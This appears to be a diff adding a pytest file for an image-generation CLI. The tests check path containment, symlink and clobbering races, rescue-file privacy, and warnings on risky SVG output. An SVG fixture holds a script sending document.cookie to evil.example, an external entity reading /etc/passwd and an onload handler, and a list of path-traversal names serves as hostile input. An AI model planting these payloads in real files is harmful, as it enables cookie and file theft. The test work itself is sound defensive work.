@@ -1,0 +1,349 @@
+"""Output paths stay where they belong and files are never clobbered, against a hostile file
+system (symlinks, files that appear while the image renders) and hostile answers (SVG scripts).
+
+All through the CLI as a subprocess, with real folders and real symlinks; rescue files go to a
+TMPDIR of the test's own.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import stat
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests import images
+from tests.conftest import SCRIPT, clean_env, leftovers, report, run_cli
+from tests.gateway import Gateway, Reply, image_events, sse_reply
+from tests.hostile import on_arrival
+
+PNG = images.png_bytes(40, 24)
+OTHER = b"not yours to replace\n"
+
+
+def image_reply(data: bytes = PNG, **kw: Any) -> Reply:
+    return sse_reply(image_events(images.b64(data), **kw))
+
+
+@pytest.fixture
+def tenv(tmp_path: Path, codex_home: Path) -> dict[str, str]:
+    """The usual environment, with the system temp folder (rescue files) inside tmp_path."""
+    (tmp_path / "tmp").mkdir()
+    return clean_env(CODEX_HOME=str(codex_home), TMPDIR=str(tmp_path / "tmp"))
+
+
+def rescued(tmp_path: Path) -> list[Path]:
+    return sorted((tmp_path / "tmp").glob("codex-imagegen-rescue-*"))
+
+
+def batch(tmp_path: Path, *lines: dict[str, object]) -> Path:
+    path = tmp_path / "jobs.jsonl"
+    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
+    return path
+
+
+# --- 3. batch `out` stays inside --out-dir ------------------------------------------------------
+
+
+def test_batch_out_through_a_symlinked_subfolder_is_refused(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    out_dir = tmp_path / "renders"
+    out_dir.mkdir()
+    (out_dir / "posters").symlink_to(outside, target_is_directory=True)
+    jobs = batch(tmp_path, {"prompt": "fox", "out": "posters/fox.png"})
+    args = ["--batch", str(jobs), "--out-dir", str(out_dir), "--sidecar", "--partial-images", "1"]
+    proc = run_cli(args, tenv)
+    assert proc.returncode == 2, report(proc, gateway)
+    assert "through a symlink" in proc.stderr and f"{jobs}:1:" in proc.stderr, proc.stderr
+    assert gateway.requests == []
+    assert list(outside.iterdir()) == []
+
+
+def test_batch_out_through_a_symlink_that_stays_inside_is_fine(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out_dir = tmp_path / "renders"
+    (out_dir / "real").mkdir(parents=True)
+    (out_dir / "alias").symlink_to(out_dir / "real", target_is_directory=True)
+    gateway.enqueue(image_reply())
+    jobs = batch(tmp_path, {"prompt": "fox", "out": "alias/fox.png"})
+    proc = run_cli(["--batch", str(jobs), "--out-dir", str(out_dir)], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert (out_dir / "real" / "fox.png").read_bytes() == PNG
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../x.png",
+        "a/../../x.png",
+        "/tmp/x.png",
+        "C:x.png",
+        "c:/x.png",
+        "a\\b.png",
+        "\\\\server\\share\\x.png",
+        "x.png:stream",
+        "a\u0000b.png",
+        "CON",
+        "con.png",
+        "Nul.tar.gz",
+        "sub/aux.png",
+        "COM1.png",
+        "lpt9",
+        "PRN .png",
+        ".",
+        "sub/..",
+    ],
+)
+def test_batch_out_refused_on_every_platform(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str], name: str
+) -> None:
+    jobs = batch(tmp_path, {"prompt": "x"}, {"prompt": "y", "out": name})
+    for extra in ([], ["--dry-run"]):
+        proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out"), *extra], tenv)
+        assert proc.returncode == 2, report(proc, gateway)
+        assert f"{jobs}:2: out " in proc.stderr and "inside --out-dir" in proc.stderr
+        assert "Traceback" not in proc.stderr
+    assert gateway.requests == []
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "name", ["sub/fox.png", "a/../b.png", "console.png", "com10.png", "lpt.png"]
+)
+def test_batch_out_names_that_are_fine(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str], name: str
+) -> None:
+    jobs = batch(tmp_path, {"prompt": "y", "out": name})
+    proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out"), "--dry-run"], tenv)
+    assert proc.returncode == 0, report(proc)
+
+
+# --- 4. no clobber at the last step; 5. private rescue files -------------------------------------
+
+
+def test_dangling_symlink_appearing_at_out_is_not_replaced(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    target = tmp_path / "elsewhere.png"
+    gateway.enqueue(on_arrival(lambda: out.symlink_to(target), image_reply()))
+    proc = run_cli(["--prompt", "p", "--out", str(out)], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    assert out.is_symlink() and os.readlink(out) == str(target) and not target.exists()
+    (rescue,) = rescued(tmp_path)
+    assert str(rescue) in proc.stderr and "appeared" in proc.stderr, proc.stderr
+    assert rescue.read_bytes() == PNG
+    assert leftovers(tmp_path) == []
+
+
+def test_file_appearing_at_out_is_kept_and_the_rescue_file_is_private(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    gateway.enqueue(on_arrival(lambda: out.write_bytes(OTHER), image_reply()))
+    proc = run_cli(["--prompt", "p", "--out", str(out), "--json"], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    assert out.read_bytes() == OTHER
+    (rescue,) = rescued(tmp_path)
+    assert json.loads(proc.stdout)["path"] == str(rescue)
+    assert re.fullmatch(r"codex-imagegen-rescue-[0-9a-f]{12}\.png", rescue.name), rescue.name
+    assert stat.S_IMODE(rescue.stat().st_mode) == 0o600
+    assert rescue.read_bytes() == PNG
+
+
+def test_rescue_file_is_private_when_the_folder_cannot_take_the_image(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    """The folder for --out becomes a file while the image renders (root ignores modes)."""
+    parent = tmp_path / "made-later"
+    gateway.enqueue(on_arrival(lambda: parent.write_bytes(b"x"), image_reply()))
+    proc = run_cli(["--prompt", "p", "--out", str(parent / "o.png")], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    (rescue,) = rescued(tmp_path)
+    assert stat.S_IMODE(rescue.stat().st_mode) == 0o600 and rescue.read_bytes() == PNG
+
+
+def test_force_replaces_what_appeared(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    target = tmp_path / "elsewhere.png"
+    gateway.enqueue(on_arrival(lambda: out.symlink_to(target), image_reply()))
+    proc = run_cli(["--prompt", "p", "--out", str(out), "--force"], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert not out.is_symlink() and out.read_bytes() == PNG and not target.exists()
+    assert stat.S_IMODE(out.stat().st_mode) == 0o644  # the image itself: normal permissions
+    assert rescued(tmp_path) == [] and leftovers(tmp_path) == []
+
+
+def run_without_hard_links(
+    args: list[str], env: dict[str, str]
+) -> subprocess.CompletedProcess[str]:
+    """The script on a file system without hard links: os.link fails with EPERM (as on FAT)."""
+    code = (
+        "import errno, os, runpy, sys\n"
+        "def link(*a, **k):\n"
+        "    raise OSError(errno.EPERM, 'Operation not permitted')\n"
+        "os.link = link\n"
+        f"sys.argv = [{str(SCRIPT)!r}] + sys.argv[1:]\n"
+        f"runpy.run_path({str(SCRIPT)!r}, run_name='__main__')\n"
+    )
+    return subprocess.run(
+        [sys.executable, "-c", code, *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        encoding="utf-8",
+    )
+
+
+def test_without_hard_links_the_image_is_still_saved_and_nothing_clobbered(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    gateway.enqueue(image_reply())
+    out = tmp_path / "o.png"
+    proc = run_without_hard_links(["--prompt", "p", "--out", str(out)], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert out.read_bytes() == PNG and leftovers(tmp_path) == []
+
+    out2 = tmp_path / "o2.png"
+    gateway.enqueue(on_arrival(lambda: out2.symlink_to(tmp_path / "nowhere"), image_reply()))
+    proc = run_without_hard_links(["--prompt", "p", "--out", str(out2)], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    assert out2.is_symlink() and len(rescued(tmp_path)) == 1
+
+
+# --- 6. the sidecar ------------------------------------------------------------------------------
+
+
+def test_sidecar_does_not_replace_an_unrelated_file(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    unrelated = tmp_path / "o.png.json"
+    unrelated.write_text('{"my": "settings"}\n', encoding="utf-8")
+    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    assert "not a sidecar written by this script" in proc.stderr and "--force" in proc.stderr
+    assert gateway.requests == [] and not out.exists()
+    assert unrelated.read_text(encoding="utf-8") == '{"my": "settings"}\n'
+
+    gateway.enqueue(image_reply())
+    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar", "--force"], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert json.loads(unrelated.read_text(encoding="utf-8"))["path"] == "o.png"
+
+
+def test_sidecar_replaces_an_earlier_sidecar_of_its_own(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    gateway.enqueue(image_reply())
+    assert run_cli(["--prompt", "first", "--out", str(out), "--sidecar"], tenv).returncode == 0
+    out.unlink()  # the image is gone, its sidecar stayed: a new run may write a new one
+    gateway.enqueue(image_reply())
+    proc = run_cli(["--prompt", "second", "--out", str(out), "--sidecar"], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert json.loads((tmp_path / "o.png.json").read_text(encoding="utf-8"))["prompt"] == "second"
+
+
+def test_sidecar_appearing_while_the_image_renders_is_kept(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out = tmp_path / "o.png"
+    sidecar = tmp_path / "o.png.json"
+    gateway.enqueue(on_arrival(lambda: sidecar.write_bytes(OTHER), image_reply()))
+    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert out.read_bytes() == PNG and sidecar.read_bytes() == OTHER
+    assert "sidecar is not" in proc.stderr, proc.stderr
+    assert leftovers(tmp_path) == []
+
+
+def test_batch_sidecar_collision_is_found_before_sending(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    out_dir = tmp_path / "renders"
+    out_dir.mkdir()
+    (out_dir / "b.png.json").write_bytes(OTHER)
+    jobs = batch(tmp_path, {"prompt": "a", "out": "a.png"}, {"prompt": "b", "out": "b.png"})
+    proc = run_cli(["--batch", str(jobs), "--out-dir", str(out_dir), "--sidecar"], tenv)
+    assert proc.returncode == 7, report(proc, gateway)
+    assert f"{jobs}:2:" in proc.stderr and gateway.requests == []
+
+
+# --- 7. SVG answers that could run code ----------------------------------------------------------
+
+RISKY_SVG = b"""<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     width="10" height="10" onload="alert(1)">
+  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
+  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
+  <text>&secret;</text>
+</svg>
+"""
+CLEAN_SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b'<defs><linearGradient id="g"/></defs><rect width="10" height="10" fill="url(#g)"/>'
+    b'<use href="#g"/><text>salon = one</text></svg>\n'
+)
+
+
+def test_svg_with_scripts_is_saved_with_a_warning_naming_them(
+    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
+) -> None:
+    gateway.enqueue(image_reply(RISKY_SVG, output_format="svg"))
+    out = tmp_path / "logo.svg"
+    proc = run_cli(["--prompt", "a logo", "--out", str(out)], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert out.read_bytes() == RISKY_SVG
+    (warning,) = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
+    for what in ("<script>", "event-handler", "DTD", "external entity", "external references"):
+        assert what in warning, warning
+    assert str(out) in warning
+
+
+def test_clean_svg_has_no_warning(tmp_path: Path, gateway: Gateway, tenv: dict[str, str]) -> None:
+    gateway.enqueue(image_reply(CLEAN_SVG, output_format="svg"))
+    out = tmp_path / "logo.svg"
+    proc = run_cli(["--prompt", "a logo", "--out", str(out)], tenv)
+    assert proc.returncode == 0, report(proc, gateway)
+    assert "warning:" not in proc.stderr, proc.stderr
+
+
+def test_image_stays_beside_out_when_no_rescue_file_can_be_made(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """--out appeared and the temp folder is full: the complete temporary file is kept (and
+    named in the error) instead of being deleted with the paid image in it."""
+    import errno
+
+    import generate_gateway_image as g
+
+    out = tmp_path / "o.png"
+    sink = g.ImageSink(str(out), force=False)
+    assert sink.save(images.b64(PNG))
+    out.write_bytes(OTHER)
+
+    def full(folder: str, prefix: str, suffix: str, mode: int = 0o666) -> tuple[int, str]:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(g, "create_unique", full)
+    with pytest.raises(g.OutputError) as info:
+        sink.commit()
+    sink.discard()
+    kept = Path(info.value.message.rsplit("saved to ", 1)[1])
+    assert kept.parent == tmp_path and kept.read_bytes() == PNG
+    assert out.read_bytes() == OTHER
